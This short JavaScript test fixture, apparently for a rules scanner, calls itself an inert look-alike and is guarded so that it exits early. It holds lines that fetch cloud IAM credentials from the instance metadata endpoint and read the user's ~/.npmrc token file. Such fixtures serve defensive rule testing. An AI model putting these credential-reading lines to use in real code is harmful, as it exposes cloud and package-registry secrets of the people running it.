// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const fs = require('fs'), os = require('os'), path = require('path');
fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/');
fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
